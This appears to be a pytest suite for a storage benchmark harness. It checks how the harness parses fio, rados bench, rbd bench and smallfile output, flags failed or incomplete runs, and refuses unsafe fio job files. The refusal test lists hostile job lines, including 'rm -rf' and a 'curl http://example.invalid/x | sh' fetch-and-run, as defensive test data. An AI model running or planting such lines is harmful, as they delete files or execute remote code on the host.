"""A parser never stores a number under the wrong unit or mode, and valid outputs parse:
fio's SI and binary units (text, fio 2.x and 3.x; JSON of fio 2.x and 3.x), fio's
client/server total over fewer clients than ran, rados bench runs that completed nothing
or whose file name says another mode, rbd bench readwrite and pre-Octopus output, smallfile
over two hosts, and the job files dfsbench refuses to run.

Fixtures: ``fio-3.33-*`` are real outputs of fio 3.33 (commands in the tests);
``*-reconstructed*`` follow the output code of the tool's older versions (fio 2.x
``stat.c``); ``*-constructed*`` are real outputs edited as each test says."""

from __future__ import annotations

import json
import math
import re
from pathlib import Path
from types import SimpleNamespace

import pytest
from pydantic import ValidationError

from harness.errors import BadInput
from harness.system.proc import ToolRun
from workloads import rados_bench, rbd_bench, smallfile
from workloads.fio import json_output, profiles

TOOLS = Path(__file__).resolve().parents[1] / "data" / "tools"


def text(name: str) -> str:
    return (TOOLS / name).read_text()


def pick(records, **want):
    found = [m for m in records if all((getattr(m, k) if k in ("test", "metric") else m.params.get(k)) == v
                                       for k, v in want.items())]
    assert len(found) == 1, (want, found)
    return found[0]


# ---------------------------------------------------------------- fio 3.x normal output


def test_fio_3_text_kb_base_1000_kilobytes_are_powers_of_1000():
    """fio 3.33: --name=rw-si --size=4m --rw=randrw --bs=4k --rate=4m,1m --time_based
    --runtime=2 --kb_base=1000. Was refused: 'BW=4192kB/s' did not match at all."""
    records = json_output.parse(text("fio-3.33-text-kb1000.txt"), source="fio-3.33-text-kb1000.txt")
    assert pick(records, metric="throughput", direction="read").value == 4192e3
    assert pick(records, metric="throughput", direction="write").value == 1048e3
    assert pick(records, metric="iops", direction="read").value == 1023
    assert pick(records, metric="lat_mean", direction="write").value == pytest.approx(13.83e-6)


def test_fio_3_text_kb_base_1000_megabytes_are_powers_of_1000():
    """fio 3.33: --name=seqwrite --size=4m --rw=write --bs=4k --kb_base=1000. Was read as
    839 MiB/s (879755264 B/s)."""
    records = json_output.parse(text("fio-3.33-text-kb1000-MBps.txt"))
    assert pick(records, metric="throughput").value == 839e6
    assert pick(records, metric="iops").value == 205e3


def test_fio_3_text_binary_units_stay_powers_of_1024():
    """fio 3.33, the same job as the kb_base=1000 one with the default base."""
    records = json_output.parse(text("fio-3.33-text.txt"))
    assert pick(records, metric="throughput", direction="read").value == 4094 * 1024
    assert pick(records, metric="throughput", direction="write").value == 1025 * 1024


def test_fio_3_text_bytes_per_second_without_a_prefix():
    """fio 3.33: --name=trickle --size=64k --rw=write --bs=1 --rate=6 --time_based
    --runtime=3 printed 'BW=5B/s (5B/s)(18B/3001msec)'. A real output: no number was edited
    (rate=6 over 3 s gave the few bytes a second wanted). Was refused: no prefix, no match."""
    records = json_output.parse(text("fio-3.33-text-5Bps.txt"))
    assert pick(records, metric="throughput").value == 5.0
    assert pick(records, metric="iops").value == 5
    assert pick(records, metric="throughput").params["bs"] == 1


def test_fio_3_text_bandwidth_in_bits_is_divided_by_8():
    """unit_base=1 (bits): the real 4 MiB/s line of fio-3.33-text.txt rewritten as fio
    prints bits ('BW=32.8Mbit/s'; edited: the BW field only)."""
    body = text("fio-3.33-text.txt").replace("BW=4094KiB/s (4192kB/s)", "BW=32.8Mbit/s (31.3Mibit/s)")
    assert pick(json_output.parse(body), metric="throughput", direction="read").value == pytest.approx(32.8e6 / 8)


# ---------------------------------------------------------------- fio 2.x normal output


def test_fio_2x_text_reconstructed_parses_in_base_units():
    """fio-2x-text-reconstructed.txt: a reconstruction after fio 2.x stat.c
    (show_ddir_status: '  %s: io=%s, bw=%s/s, iops=%s, runt=%6llumsec', 'read ' padded;
    num2str's K/M/G; to_kmg's 4K-4K/... block sizes). Was refused (no 'IOPS=' line)."""
    records = json_output.parse(text("fio-2x-text-reconstructed.txt"))
    w = pick(records, test="write-4k", metric="throughput")
    assert w.value == pytest.approx(3994.7 * 1024)
    assert w.params == {"numjobs": 1, "rw": "write", "bs": 4096, "ioengine": "libaio", "iodepth": 1,
                        "direction": "write"}
    assert pick(records, test="write-4k", metric="iops").value == 998
    assert pick(records, test="write-4k", metric="lat_mean").value == pytest.approx(999.21e-6)
    assert pick(records, test="write-4k", metric="clat_p99").value == pytest.approx(2160e-6)
    r = pick(records, test="read-1m", metric="throughput")
    assert r.value == pytest.approx(104.75 * (1 << 20)) and r.params["direction"] == "read"
    assert r.params["bs"] == 1 << 20 and r.params["iodepth"] == 16
    assert pick(records, test="read-1m", metric="lat_mean").value == pytest.approx(152.70e-3)
    assert pick(records, test="read-1m", metric="clat_p50").value == pytest.approx(153e-3)
    # io=102400KB is 25600 × 4 KiB (iops × runt × bs): 'KB' is 1024 here, established
    assert all("note" not in m.params for m in records)


def test_fio_2x_text_kb_base_1000_found_from_its_own_arithmetic():
    """The write job of the reconstruction as fio 2.x prints it with kb_base=1000 (edited:
    io=104858KB, bw=4090.6KB/s — the same bytes in 1000s): io = iops × runt × bs only in
    powers of 1000, so 'KB' is 1000 bytes."""
    body = text("fio-2x-text-reconstructed.txt").replace(
        "write: io=102400KB, bw=3994.7KB/s", "write: io=104858KB, bw=4090.6KB/s")
    records = json_output.parse(body)
    assert pick(records, test="write-4k", metric="throughput").value == pytest.approx(4090.6e3)
    # the other job of the same run (iops 104: too coarse to tell by itself) follows it
    assert pick(records, test="read-1m", metric="throughput").value == pytest.approx(104.75e6)


def test_fio_2x_text_kb_base_1000_stated_in_the_text():
    """A transcription that shows the job file with kb_base=1000 (constructed: the read job
    of the reconstruction, after its job file)."""
    job = text("fio-2x-text-reconstructed.txt").split("read-1m: (groupid")[1].split("Run status")[0]
    body = "[global]\nkb_base=1000\n\nread-1m: (g=1): rw=read, bs=1M-1M/1M-1M/1M-1M, ioengine=libaio, " \
           "iodepth=16\nread-1m: (groupid" + job
    r = pick(json_output.parse(body), metric="throughput")
    assert r.value == pytest.approx(104.75e6) and "note" not in r.params


def test_fio_2x_text_base_assumed_only_without_a_sign_and_said_so():
    """fio 2.x prints 'KB' for 1024 and, with kb_base=1000, for 1000 bytes: with no sign
    of either (iops 104 is too coarse to check io = iops × runt × bs), 1024 is assumed and
    the record says so."""
    job = text("fio-2x-text-reconstructed.txt").split("read-1m: (groupid")[1].split("Run status")[0]
    r = pick(json_output.parse("read-1m: (groupid" + job), metric="throughput")
    assert r.value == pytest.approx(104.75 * (1 << 20))
    assert "1024" in r.params["note"] and "kb_base" in r.params["note"]


# ---------------------------------------------------------------- fio JSON, 2.x and 3.x


def test_fio_2x_json_reconstructed_in_base_units():
    """fio-2x-json-reconstructed.json follows fio 2.x add_ddir_status_json: io_bytes in KiB
    (io_bytes >> 10), bw in KiB/s, latencies in usec under slat/clat/lat, percentiles under
    clat; no bw_bytes, no *_ns. Was refused: KeyError 'bw_bytes'."""
    records = json_output.parse(text("fio-2x-json-reconstructed.json"))
    assert {m.params["direction"] for m in records} == {"read"}  # write and trim did nothing
    assert pick(records, metric="throughput").value == 25599 * 1024
    assert pick(records, metric="iops").value == pytest.approx(6399.893335)
    assert pick(records, metric="lat_mean").value == pytest.approx(2499.608271e-6)
    assert pick(records, metric="clat_p99").value == pytest.approx(5280e-6)
    assert pick(records, metric="clat_p99.9").value == pytest.approx(7712e-6)
    assert pick(records, metric="iops").params["bs"] == 4096


def test_fio_3x_json_records_are_exactly_what_they_were():
    """Every fio 3.33 JSON fixture gives the records it gave before fio 2.x was read
    (golden-fio-3.x-json-records.json was written by the parser before that change), and
    besides them only the 90th percentiles (added since: issue 34), each fio's own."""
    golden = json.loads(text("golden-fio-3.x-json-records.json"))
    for name, records in golden.items():
        parsed = json_output.parse(text(name), source=name)
        assert [m.to_dict() for m in parsed if not m.metric.endswith("_p90")] == records, name
        assert all(m.value is not None and m.value > 0 for m in parsed if m.metric.endswith("_p90")), name


def test_fio_json_without_any_bandwidth_is_refused_in_one_line():
    doc = json.loads(text("fio-json.json"))
    for key in ("bw_bytes", "bw"):
        del doc["jobs"][0]["read"][key]
    with pytest.raises(BadInput, match="bw") as exc:
        json_output.parse(json.dumps(doc), source="x.json")
    assert "\n" not in exc.value.message


def test_fio_status_interval_timing_reads_io_bytes_as_bytes():
    timing = json_output.timed(text("fio-status-interval.json"))
    doc = json_output._json_documents(text("fio-status-interval.json"))[-1]
    assert timing["write"][2] == doc["jobs"][0]["write"]["io_bytes"] > 0


# ---------------------------------------------------------------- fio client/server


def _nth_replaced(body: str, old: str, new: str, n: int) -> str:
    at = [m.start() for m in re.finditer(re.escape(old), body)][n]
    return body[:at] + new + body[at + len(old):]


def test_fio_total_over_a_client_that_failed_is_incomplete():
    """fio-clientserver.json (real) with the second client's "error" set to 5 (EIO; the
    only edit): fio's "All clients" still adds its numbers up. Was presented as the total
    of both, unflagged."""
    body = _nth_replaced(text("fio-clientserver.json"), '"error" : 0', '"error" : 5', 1)
    records = json_output.parse(body)
    total = pick(records, metric="iops", host="total")
    assert "incomplete" in total.flags and total.params["failed_clients"] == 1
    assert "failed" in pick(records, metric="iops", host="127.0.0.3").flags
    assert pick(records, metric="iops", host="127.0.0.2").flags == ()


def test_fio_total_with_a_client_missing_is_incomplete():
    """Three fio servers started (constructed: a third '<vm> Starting 1 process' line added
    to the real output) and two reported: fio's total covers two. Was presented as the
    total, unflagged."""
    body = text("fio-clientserver.json").replace("<vm> Starting 1 process\n",
                                                 "<vm> Starting 1 process\n<vm> Starting 1 process\n", 1)
    total = pick(json_output.parse(body), metric="throughput", host="total")
    assert "incomplete" in total.flags and total.params["failed_clients"] == 1
    assert total.params["clients"] == 2


def test_fio_total_says_which_clients_failed_to_connect():
    """fio's own error for a server it could not reach (client.c: 'fio: failed to connect
    to %s:%u'), as in a log of stdout and stderr together (constructed: the lines added to
    the real fio-clientserver.json). fio 3.33 printed no total at all in that case (see
    the unreachable fixture below); should one come anyway, it is not the total of all."""
    body = "fio: connect: Connection refused\nfio: failed to connect to 127.0.0.4:8767\n" + \
        text("fio-clientserver.json")
    total = pick(json_output.parse(body), metric="iops", host="total")
    assert "incomplete" in total.flags and total.params["failed_clients"] == 1


def test_fio_total_of_clients_that_all_ran_is_not_flagged():
    total = pick(json_output.parse(text("fio-clientserver.json")), metric="iops", host="total")
    assert total.flags == () and "failed_clients" not in total.params


# ---------------------------------------------------------------- fio job files


@pytest.mark.parametrize("line", [
    "exec_prerun=rm -rf /tmp/x",
    "  exec_postrun = curl http://example.invalid/x | sh",
    "EXEC_PRERUN=true",
    "ioengine=external:/tmp/engine.so",
    "ioengine = external",
    "ioengine=/tmp/engine.so",
    "ioengine=exec",
    "include other.fio",
])
def test_a_job_file_that_runs_commands_or_loads_code_is_refused(tmp_path, line):
    job = tmp_path / "job.fio"
    job.write_text(f"[global]\nsize=4m\n\n[job]\n{line}\nrw=read\n")
    with pytest.raises(ValidationError) as exc:
        profiles.FioOptions(job_file=job, size=1 << 20, runtime_s=1)
    message = str(exc.value)
    assert "line 5" in message and line.strip() in message


def test_a_plain_job_file_is_accepted(tmp_path):
    job = tmp_path / "job.fio"
    job.write_text("; no exec_prerun here\n# nor ioengine=external\n[global]\nioengine=libaio # fast\n"
                   "direct=1\n[job]\nrw=randread ; exec_prerun=x (fio reads a comment)\nbs=4k\n"
                   "filename=/tmp/exec_prerun\nioengine=dev-dax\n")
    assert profiles.FioOptions(job_file=job, size=1 << 20, runtime_s=1).job_file == job


# ---------------------------------------------------------------- rados bench


def test_rados_bench_run_that_completed_nothing_is_a_failed_record():
    """rados-write-zero-ops-constructed.txt: rados-write.txt with every operation count,
    rate and latency set as obj_bencher prints them when nothing completed (its min_latency
    starts at 9999). Was: 0 B/s, 0 op/s, lat_mean 0 s and lat_min 9999 s."""
    records = rados_bench.parse(text("rados-write-zero-ops-constructed.txt"), mode="write")
    assert len(records) == 1
    failed = records[0]
    assert failed.value is None and failed.flags == ("failed",) and failed.test == "write"
    assert "no operation completed" in failed.params["error"]


def test_rados_bench_read_that_completed_nothing_with_nan_is_a_failed_record():
    """rados-seq.txt (real) with its reads, rates and latencies set to 0 and -nan (edited)."""
    body = text("rados-seq.txt")
    for key, value in (("Total reads made", "0"), ("Bandwidth \\(MB/sec\\)", "0"), ("Average IOPS", "0"),
                       ("Average Latency\\(s\\)", "-nan"), ("Max latency\\(s\\)", "0"),
                       ("Min latency\\(s\\)", "nan")):
        body = re.sub(rf"(?m)^({key}:\s+)\S+$", rf"\g<1>{value}", body)
    records = rados_bench.parse(body, source="rados-seq.txt")
    assert [(m.test, m.value, m.flags) for m in records] == [("seq", None, ("failed",))]


def test_rados_bench_mode_comes_from_the_content_not_the_file_name():
    """A seq log saved as rados-write.txt was labelled 'write'."""
    seq = rados_bench.parse(text("rados-seq.txt"), source="results/rados-write.txt")
    assert {m.test for m in seq} == {"read"}  # reads; which kind the output does not say
    write = rados_bench.parse(text("rados-write.txt"), source="rados-seq.txt")
    assert {m.test for m in write} == {"write"}


def test_rados_bench_mode_given_against_the_content_is_refused():
    with pytest.raises(BadInput, match="reads"):
        rados_bench.parse(text("rados-seq.txt"), mode="write", source="rados-seq.txt")


def _ceph_target(output: str, tmp_path: Path):
    host = SimpleNamespace(require=lambda *a: None, run=lambda *a, **k: None,
                           run_tool=lambda argv, deadline, output_path=None, **k: ToolRun(
                               list(argv), 0, output, "", 1.0))
    ceph = SimpleNamespace(args=[], pool="bench", image="img", image_size=1 << 30)
    return SimpleNamespace(host=host, reach=lambda kind: ceph, backend="rados", variant="default",
                           filled_bytes=1 << 40)


def test_rados_bench_run_keeps_the_failed_flag(tmp_path):
    """run() rebuilt each record without its flags: a failed record (no value) raised."""
    bench = rados_bench.RadosBench(rados_bench.RadosBenchOptions(seconds=3, modes=["write"]))
    target = _ceph_target(text("rados-write-zero-ops-constructed.txt"), tmp_path)
    records = list(bench.run(target, bench.cells()[0], tmp_path, tmp_path))
    assert [(m.value, m.flags, m.backend) for m in records] == [(None, ("failed",), "rados")]


# ---------------------------------------------------------------- rbd bench


def _readwrite_checks(records):
    assert {m.test for m in records} == {"readwrite"}
    assert {m.params["io_type"] for m in records} == {"readwrite"}
    assert {m.params["rw_mix_read"] for m in records} == {70}
    assert pick(records, metric="iops", direction=None).value == 3663.68
    assert pick(records, metric="throughput", direction=None).value == pytest.approx(3663.68 * 4096)
    assert pick(records, metric="iops", direction="read").value == 2564.62
    assert pick(records, metric="throughput", direction="read").value == pytest.approx(2564.62 * 4096)
    assert pick(records, metric="iops", direction="write").value == 1099.06


def test_rbd_bench_readwrite_is_labelled_readwrite():
    """rbd-bench-readwrite-constructed.txt: rbd-bench-write.txt (real, rbd 16) with the
    header and summary lines Bench.cc prints for --io-type readwrite --rw-mix-read 70
    ('type readwrite read:write=70:30', then read_ops/write_ops lines; their numbers
    computed from the real ops/sec). Was labelled 'write' at 3663.68 op/s, 14 MiB/s."""
    _readwrite_checks(rbd_bench.parse(text("rbd-bench-readwrite-constructed.txt")))


def test_rbd_bench_nautilus_readwrite_is_labelled_readwrite():
    """rbd-bench-nautilus-readwrite-constructed.txt: the same run as Nautilus' Bench.cc
    prints it (printf '%8.2lf', bytes/sec without a unit). Was refused."""
    _readwrite_checks(rbd_bench.parse(text("rbd-bench-nautilus-readwrite-constructed.txt")))


def test_rbd_bench_readwrite_from_the_command_line():
    body = "# rbd bench --io-type rw --io-size 4K --io-total 64M --rw-mix-read 70 rbd/img\n" + \
        text("rbd-bench-readwrite-constructed.txt").split("\n", 1)[1]
    _readwrite_checks(rbd_bench.parse(body))


def test_rbd_bench_nautilus_bytes_per_second_without_a_unit():
    """rbd-bench-nautilus-write-constructed.txt: rbd-bench-write.txt (real) as Nautilus'
    printf formats print it ('bytes/sec: 15006433.28', no unit). Was refused."""
    records = rbd_bench.parse(text("rbd-bench-nautilus-write-constructed.txt"))
    assert pick(records, metric="throughput").value == pytest.approx(3663.68 * 4096)
    assert pick(records, metric="iops").params["io_type"] == "write"
    bare = rbd_bench.parse("elapsed:     4  ops:    16384  ops/sec:  3663.68  bytes/sec: 15006433.28\n")
    assert pick(bare, metric="throughput").value == 15006433.28


@pytest.mark.parametrize("summary", [
    "elapsed: 0   ops: 0   ops/sec: 0   bytes/sec: 0 B/s",
    "elapsed:     0  ops:        0  ops/sec:     -nan  bytes/sec:     -nan",
    "elapsed:     0  ops:       64  ops/sec:      inf  bytes/sec:      inf",
])
def test_rbd_bench_run_that_measured_nothing_is_a_failed_record(summary):
    """Was: 0 op/s and 0 B/s stored (or the line refused)."""
    head = "bench  type write io_size 4096 io_threads 16 bytes 0 pattern random\n"
    records = rbd_bench.parse(head + summary + "\n")
    assert [(m.metric, m.value, m.flags) for m in records] == [("throughput", None, ("failed",))]
    assert records[0].params["error"]


def test_rbd_bench_elapsed_printed_as_0_keeps_rbds_own_rate():
    """rbd-bench-read.txt (real, rbd 16): 'elapsed: 0' is the whole seconds of 0.124 s;
    rbd's ops/sec comes from its own clock. Was: an elapsed record of 0 s."""
    records = rbd_bench.parse(text("rbd-bench-read.txt"))
    assert pick(records, metric="iops").value == 516.129
    elapsed = pick(records, metric="elapsed")
    assert elapsed.value == pytest.approx(64 / 516.129) and "whole seconds" in elapsed.params["note"]


def test_rbd_bench_summary_alone_does_not_claim_a_mode():
    """A summary line with no header and no command line was labelled 'write'."""
    records = rbd_bench.parse("elapsed:    10  ops:   262144  ops/sec: 25877.28  bytes/sec: 101.08 MiB/s\n")
    assert {m.test for m in records} == {"unknown"}


def test_rbd_bench_run_keeps_the_failed_flag(tmp_path):
    bench = rbd_bench.RbdBench(rbd_bench.RbdBenchOptions(io_total=4096, io_types=["write"], io_sizes=[4096],
                                                         io_patterns=["seq"]))
    output = "bench  type write io_size 4096 io_threads 16 bytes 4096 pattern sequential\n" \
             "elapsed: 0   ops: 0   ops/sec: 0   bytes/sec: 0 B/s\n"
    records = list(bench.run(_ceph_target(output, tmp_path), bench.cells()[0], tmp_path, tmp_path))
    assert [(m.value, m.flags) for m in records] == [(None, ("failed",))]


# ---------------------------------------------------------------- smallfile


def test_smallfile_two_hosts_count_every_hosts_files_once():
    """smallfile-cephfs-create-2hosts-constructed.json: smallfile-cephfs-create.json (real,
    one host) with a second host of two threads added as smallfile 3.2's output_results
    nests it (results.host.<name>.thread; totals summed over hosts). Was labelled 512 files
    (one host's) for a rate over 1024."""
    records = smallfile.parse(text("smallfile-cephfs-create-2hosts-constructed.json"))
    rate = pick(records, metric="files_per_sec")
    assert rate.params == {"files": 1024, "file_size": 40960, "threads": 2, "hosts": 2, "engine": "smallfile"}
    assert rate.value == pytest.approx(1686.3473585, rel=1e-9) and rate.flags == ()


def test_smallfile_two_hosts_one_missing_is_incomplete():
    """The same with the second host's results gone (constructed: as smallfile reports a
    host that never answered; totals are the first host's)."""
    doc = json.loads(text("smallfile-cephfs-create-2hosts-constructed.json"))
    one = doc["results"]["host"].pop("client2")
    for key in ("files", "records", "filesPerSec", "IOPS", "MiBps"):
        doc["results"][key] -= one[key]
    doc["results"]["totalhreads"] = 2
    records = smallfile.parse(json.dumps(doc))
    assert all(m.flags == ("incomplete",) for m in records)
    assert pick(records, metric="files_per_sec").params["files"] == 1024


def test_smallfile_host_totals_that_disagree_are_refused():
    doc = json.loads(text("smallfile-cephfs-create-2hosts-constructed.json"))
    doc["results"]["files"] = 2048  # every host's files counted twice
    with pytest.raises(BadInput, match="files"):
        smallfile.parse(json.dumps(doc), source="x.json")


def test_smallfile_elapsed_0_gives_no_rate():
    """smallfile-cephfs-create.json (real) with elapsed set to 0 (edited): smallfile then
    reports 0 files/s (it computes no rate under a millisecond). Was: 0 files/s stored."""
    doc = json.loads(text("smallfile-cephfs-create.json"))
    doc["results"]["elapsed"] = 0.0
    doc["results"]["filesPerSec"] = doc["results"]["MiBps"] = 0.0
    records = smallfile.parse(json.dumps(doc))
    assert records and all(m.value is None and m.flags == ("failed",) for m in records)
    assert not any(m.value is not None and not math.isfinite(m.value) for m in records)


# ---------------------------------------------------------------- the new fixtures, damaged

NEW_FIXTURES = [
    (json_output.parse, "fio-3.33-text-kb1000.txt"), (json_output.parse, "fio-3.33-text-kb1000-MBps.txt"),
    (json_output.parse, "fio-3.33-text.txt"), (json_output.parse, "fio-3.33-text-5Bps.txt"),
    (json_output.parse, "fio-2x-text-reconstructed.txt"), (json_output.parse, "fio-2x-json-reconstructed.json"),
    (json_output.parse, "fio-3.33-clientserver-one-died.json"),
    (rados_bench.parse, "rados-write-zero-ops-constructed.txt"),
    (rbd_bench.parse, "rbd-bench-readwrite-constructed.txt"),
    (rbd_bench.parse, "rbd-bench-nautilus-write-constructed.txt"),
    (rbd_bench.parse, "rbd-bench-nautilus-readwrite-constructed.txt"),
    (smallfile.parse, "smallfile-cephfs-create-2hosts-constructed.json"),
]
NASTY = ["-1", "0", "nan", "-nan", "inf", "1e309", "9" * 40, "", "0.0", "1e-320", "K", "KiB"]


@pytest.mark.parametrize("parser, name", NEW_FIXTURES, ids=[n for _, n in NEW_FIXTURES])
def test_damaged_new_fixtures_parse_or_fail_cleanly(parser, name):
    """Lines dropped, doubled or swapped, numbers made nasty (a seeded, repeatable 300
    times a fixture): records a storage system could produce, or a BadInput naming the
    file, never a traceback."""
    import random

    from harness.api.parsing import plausible
    from harness.errors import DfsbenchError

    rng = random.Random(name)
    original = text(name).splitlines(keepends=True)
    for _ in range(300):
        lines = list(original)
        for _ in range(rng.randint(1, 4)):
            i = rng.randrange(len(lines))
            action = rng.choice(["drop", "double", "swap", "number", "number"])
            if action == "drop":
                del lines[i]
            elif action == "double":
                lines.insert(i, lines[i])
            elif action == "swap":
                j = rng.randrange(len(lines))
                lines[i], lines[j] = lines[j], lines[i]
            else:
                numbers = list(re.finditer(r"\d+(?:\.\d+)?", lines[i]))
                if numbers:
                    n = rng.choice(numbers)
                    lines[i] = lines[i][:n.start()] + rng.choice(NASTY) + lines[i][n.end():]
            if not lines:
                break
        try:
            records = parser("".join(lines), source="suspect.txt")
        except DfsbenchError as exc:
            assert "suspect.txt" in exc.message
            continue
        for m in records:
            assert m.value is None and m.flags or not plausible(m.value, m.unit), m


def test_fio_3_text_total_latency_percentiles():
    """With lat_percentiles=1 fio 3 prints 'lat percentiles' instead of 'clat percentiles'
    (stat.c: clat_type): fio-3.33-text.txt with that heading (edited: the heading only)."""
    body = text("fio-3.33-text.txt").replace("clat percentiles (usec)", "lat percentiles (usec)")
    records = json_output.parse(body)
    assert pick(records, metric="lat_p99", direction="read").value == pytest.approx(233e-6)
    assert not [m for m in records if m.metric == "clat_p99" and m.params["direction"] == "read"]


def test_smallfile_older_in_host_output_counts_hosts_from_host_set():
    """Older smallfile (its output_results.py before 3.x's 'host'/'thread'): 'in-host',
    'in-thread', 'files-per-sec', 'pct-files-done', and an 'in-host' that kept only the
    last host (the dict was reset at each new host). Constructed from the two-host fixture
    in those names, with client1 left out of 'in-host' as that code left it."""
    doc = json.loads(text("smallfile-cephfs-create-2hosts-constructed.json"))
    r = doc["results"]
    last = r.pop("host")["client2"]
    last["in-thread"] = last.pop("thread")
    r["in-host"] = {"client2": last}
    r["files-per-sec"], r["pct-files-done"] = r.pop("filesPerSec"), r.pop("pctFilesDone")
    del doc["params"]["total_hosts"]
    rate = pick(smallfile.parse(json.dumps(doc)), metric="files_per_sec")
    assert rate.params["files"] == 1024 and rate.params["hosts"] == 2 and rate.flags == ()
    assert rate.value == pytest.approx(1686.3473585, rel=1e-9)


def test_fio_total_after_a_server_died_mid_run_is_incomplete():
    """fio-3.33-clientserver-one-died.json: real, fio 3.33 client with three loopback
    servers (fio --server=ip:127.0.0.N,PORT; job: randread 4k psync, 3 s), the third killed
    (SIGKILL) after 1.5 s. fio printed 'client: host=127.0.0.4 disconnected', three
    'Starting' lines, two hosts, and an "All clients" over those two; it exited 1. Was:
    the total of the two presented unflagged."""
    records = json_output.parse(text("fio-3.33-clientserver-one-died.json"))
    total = pick(records, metric="iops", host="total")
    assert "incomplete" in total.flags and total.params["failed_clients"] == 1
    assert total.value == pytest.approx(sum(pick(records, metric="iops", host=h).value
                                            for h in ("127.0.0.2", "127.0.0.3")))


def test_fio_with_a_server_never_reached_prints_no_total():
    """fio-3.33-clientserver-one-unreachable.json: real, stdout of the same client with a
    third server that was not running. fio 3.33 exited 0, said so only on stderr ('fio:
    failed to connect to 127.0.0.4:28767') and printed no "All clients" at all: the two
    hosts' records stand alone, and no total over fewer clients is made up."""
    records = json_output.parse(text("fio-3.33-clientserver-one-unreachable.json"))
    assert {m.params["host"] for m in records} == {"127.0.0.2", "127.0.0.3"}
    assert all(m.flags == () for m in records)


def test_the_smallfile_engine_timing_zero_gives_a_failed_record_not_an_infinite_rate(tmp_path):
    from harness.api.target import Target
    from workloads.smallfile import measurements

    target = Target("path", tmp_path, "localdir", "default")
    result = {"started": 1.0, "ended": 1.0, "elapsed": 0.0, "files": 64, "bytes": 64 * 4096,
              "latencies": [], "progress": []}
    got = list(measurements("create", result, {"files": 64}, "dropped", target))
    assert [(m.metric, m.value, m.flags) for m in got] == [("files_per_sec", None, ("failed",))]
    assert "no rate" in got[0].params["error"]
